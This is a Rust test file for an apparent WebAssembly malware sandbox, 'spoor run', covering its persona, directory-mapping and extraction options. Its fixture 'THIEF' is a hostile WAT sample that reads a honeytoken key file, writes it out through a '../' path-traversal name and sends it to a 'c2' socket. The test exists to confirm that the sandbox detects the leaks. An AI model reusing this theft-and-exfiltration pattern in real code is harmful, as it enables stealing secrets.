//! What `spoor run` gives a sample of a world and takes out of it: `--persona`, `--dir`, `--extract`.

#[path = "common/command.rs"]
mod command;

use std::{fs, path::Path};

use command::spoor;
use serde_json::Value;

fn report(words: &[&str]) -> Value {
    let output = spoor(&[&["run", "--json", "--fail-on", "never"], words].concat());
    serde_json::from_slice(&output.stdout)
        .unwrap_or_else(|error| panic!("{error}: {}", String::from_utf8_lossy(&output.stderr)))
}

fn write(folder: &Path, name: &str, contents: &str) -> String {
    let path = folder.join(name);
    fs::write(&path, contents).unwrap();
    path.to_str().unwrap().to_owned()
}

/// Reads `k/key` of the directory 3, writes it to `../x` of `k` and sends it on 4.
const THIEF: &str = r#"(module
    (import "wasi_snapshot_preview1" "path_open" (func $open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
    (import "wasi_snapshot_preview1" "fd_read" (func $read (param i32 i32 i32 i32) (result i32)))
    (import "wasi_snapshot_preview1" "fd_write" (func $write (param i32 i32 i32 i32) (result i32)))
    (import "wasi_snapshot_preview1" "sock_send" (func $send (param i32 i32 i32 i32 i32) (result i32)))
    (memory (export "memory") 1) (data (i32.const 100) "k/key") (data (i32.const 120) "k/../..x") (data (i32.const 64) "\00\04\00\00\00\04\00\00")
    (func (export "_start")
        (drop (call $open (i32.const 3) (i32.const 1) (i32.const 100) (i32.const 5) (i32.const 0) (i64.const 2) (i64.const 0) (i32.const 0) (i32.const 16)))
        (drop (call $read (i32.load (i32.const 16)) (i32.const 64) (i32.const 1) (i32.const 0)))
        (i32.store (i32.const 68) (i32.load (i32.const 0)))
        (drop (call $open (i32.const 3) (i32.const 1) (i32.const 120) (i32.const 8) (i32.const 1) (i64.const 66) (i64.const 0) (i32.const 0) (i32.const 16)))
        (drop (call $write (i32.load (i32.const 16)) (i32.const 64) (i32.const 1) (i32.const 0)))
        (drop (call $write (i32.const 1) (i32.const 64) (i32.const 1) (i32.const 0)))
        (drop (call $send (i32.const 4) (i32.const 64) (i32.const 1) (i32.const 0) (i32.const 0)))))"#;

const PERSONA: &str = "description = 'test'\n[[file]]\npath = '/k/key'\ntext = 'swordfish-4711-key'\nhoneytoken = 'key'\n[[socket]]\nname = 'c2'\n";

#[test]
fn what_was_stolen_is_reported_and_extracted_under_safe_names() {
    let folder = tempfile::tempdir().unwrap();
    let (sample, persona) = (write(folder.path(), "s.wat", THIEF), write(folder.path(), "p.toml", PERSONA));
    let out = folder.path().join("out");
    let words = ["--persona", &persona, "--extract", out.to_str().unwrap(), &sample];
    let report = report(&words);
    assert_eq!(report["options"]["persona"], "p");
    let token = &report["honeytokens"][0];
    assert_eq!((token["name"].as_str(), token["read"].as_u64()), (Some("key"), Some(1)), "{token}");
    let leaks: Vec<_> =
        token["leaks"].as_array().unwrap().iter().map(|leak| leak["to"].as_str().unwrap()).collect();
    assert_eq!(leaks, ["/..x", "stdout", "socket c2"]);
    assert_eq!(report["connections"][0]["sent"], "swordfish-4711-key");
    let texts = String::from_utf8(spoor(&["run", "-v", "--persona", &persona, &sample]).stdout).unwrap();
    assert!(
        texts.contains("Honeytokens touched") && texts.contains("Connections (none of them real)"),
        "{texts}"
    );

    let [extracted] = &fs::read_dir(&out).unwrap().map(|entry| entry.unwrap().path()).collect::<Vec<_>>()[..]
    else {
        panic!()
    };
    let index: Value =
        serde_json::from_str(&fs::read_to_string(extracted.join("index.json")).unwrap()).unwrap();
    assert_eq!(index["sample"], report["sample"]["sha256"]);
    let items: Vec<_> = index["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|item| (item["kind"].as_str().unwrap(), item["name"].as_str()))
        .collect();
    assert_eq!(items, [("stdout", None), ("sent", Some("c2")), ("file", Some("/..x"))]);
    let mut names: Vec<_> = fs::read_dir(extracted)
        .unwrap()
        .map(|entry| entry.unwrap().file_name().into_string().unwrap())
        .collect();
    names.sort();
    assert_eq!(names.len(), 2, "the same bytes once: {names:?}");
    assert_eq!(
        fs::read(extracted.join(index["items"][0]["saved_as"].as_str().unwrap())).unwrap(),
        b"swordfish-4711-key"
    );
    // Once more: beside it, and nothing is written over.
    fs::write(extracted.join("index.json"), "mine").unwrap();
    assert!(spoor(&[&["run"][..], &words].concat()).status.code().is_some_and(|code| code < 2));
    assert_eq!(
        (fs::read_dir(&out).unwrap().count(), fs::read_to_string(extracted.join("index.json")).unwrap()),
        (2, "mine".to_owned())
    );
}

#[test]
fn options_go_before_the_persona() {
    let folder = tempfile::tempdir().unwrap();
    let host = folder.path().join("host");
    fs::create_dir(&host).unwrap();
    fs::write(host.join("key"), "another").unwrap();
    let (sample, persona) = (write(folder.path(), "s.wat", THIEF), write(folder.path(), "p.toml", PERSONA));
    let dir = format!("{}::/k", host.display());
    let report = report(&[
        "--persona",
        &persona,
        "--dir",
        &dir,
        "--env",
        "A=1",
        "--env",
        "A=2",
        "--arg",
        "x",
        &sample,
    ]);
    assert_eq!(
        (report["stdout"].as_str(), &report["honeytokens"]),
        (Some("another"), &Value::Array(Vec::new()))
    );
    assert_eq!(report["options"]["args"].as_array().unwrap().len(), 2);
    assert_eq!(report["options"]["env"], serde_json::json!([["A", "2"]]));
}

#[test]
fn a_directory_that_nothing_leads_to_is_open() {
    let folder = tempfile::tempdir().unwrap();
    let host = folder.path().join("host");
    fs::create_dir_all(host.join("k")).unwrap();
    fs::write(host.join("k/key"), "another").unwrap();
    let sample = write(folder.path(), "s.wat", THIEF);
    for (guest, open) in [("/", "/"), ("/a", "/a"), ("a", "/a")] {
        let report =
            report(&["--persona", "study", "--dir", &format!("{}::{guest}", host.display()), &sample]);
        assert_eq!(
            (report["stdout"].as_str(), &report["options"]["preopens"]),
            (Some("another"), &serde_json::json!([[guest, open]]))
        );
    }
    let output = spoor(&["run", "--dir", &format!("{}::../a", host.display()), &sample]);
    assert_eq!(output.status.code(), Some(2));
}

#[test]
fn personas_that_are_none_are_refused_with_the_list_or_the_place() {
    let folder = tempfile::tempdir().unwrap();
    let sample = write(folder.path(), "s.wat", "(module)");
    let broken = write(folder.path(), "broken.toml", "description = 'x'\nfiles = 3\n");
    for (persona, parts) in [
        ("nobody", &["no persona `nobody`", "default", "workstation", "server", "study"][..]),
        (&broken, &["unknown field `files`", "broken.toml:2:", "^"]),
        ("/no/such.toml", &["/no/such.toml"]),
    ] {
        let output = spoor(&["run", "--persona", persona, &sample]);
        let message = String::from_utf8(output.stderr).unwrap();
        assert_eq!(output.status.code(), Some(2), "{message}");
        assert!(parts.iter().all(|part| message.contains(part)), "{message}");
    }
    let output = spoor(&["run", "--dir", "/no/such::/x", &sample]);
    assert_eq!(output.status.code(), Some(2));
    let help = String::from_utf8(spoor(&["run", "--help"]).stdout).unwrap();
    for name in ["workstation", "server", "study", "--dir", "--extract"] {
        assert!(help.contains(name), "{name}");
    }
}
